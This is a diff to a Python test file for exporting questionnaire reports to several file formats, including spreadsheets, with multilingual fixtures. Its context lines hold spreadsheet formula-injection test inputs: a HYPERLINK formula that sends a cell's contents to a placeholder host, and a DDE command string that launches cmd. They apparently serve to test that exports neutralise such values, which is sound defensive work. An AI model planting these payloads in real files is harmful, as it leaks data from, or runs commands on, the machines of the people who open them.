@@ -7,9 +7,12 @@ import re
 from dataclasses import replace
 from datetime import UTC, date, datetime
 from io import BytesIO
+from typing import Any
+
+from openpyxl import load_workbook
 
 from assistant.catalogue import load_questionnaires
-from assistant.export import Origin
+from assistant.export import FORMATS, Origin, export_bytes
 from assistant.models import Assessment, StoredAnswer
 from assistant.questionnaire import NOT_APPLICABLE, UNKNOWN, Questionnaire
 from assistant.replies import answer_sheet, with_reply
@@ -21,6 +24,7 @@ TODAY, ANSWERED = date(2026, 3, 2), datetime(2026, 3, 1, 9, tzinfo=UTC)
 NOTES = ("", "", "Lo probamos en marzo con «ACME», pero no hay acta. ¿Quién la firma?\nPendiente: “Compras” — ñandú, O’Higgins y D'Angelo.")
 OWNERS = ("", "", "María Núñez", "Íñigo O'Brien")
 MARGIN = 55  # points at the top and bottom of a page that hold no text of the report itself
+WRITTEN = tuple(suffix for suffix in FORMATS if suffix != ".json")
 TYPED = {  # what would run, or break the layout, where a file took it for more than text
     "formula": '=HYPERLINK("http://example.invalid/?"&A1,"pulse")',
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -56,6 +60,25 @@ def make_report(questionnaire: Questionnaire, answers: dict[str, StoredAnswer], 
 
 def questionnaire_of(name: str) -> Questionnaire:
     return load_questionnaires(load_settings({}))[name]
+
+
+def book_of(content: bytes) -> Any:
+    return load_workbook(BytesIO(content))
+
+
+LANGUAGES = {"es": questionnaire_of("continuity"), "en": questionnaire_of("data-protection")}  # those that cite most
+
+
+class Files(dict[tuple[str, str], bytes]):
+    """A report a language in every format, by language and suffix; each made when it is first asked for."""
+
+    def __init__(self, reports: dict[str, Report]) -> None:
+        self._reports = reports
+
+    def __missing__(self, key: tuple[str, str]) -> bytes:
+        language, suffix = key
+        self[key] = export_bytes(self._reports[language], suffix, language)
+        return self[key]
 
 
 def origin_of(answers: dict[str, StoredAnswer]) -> Origin:
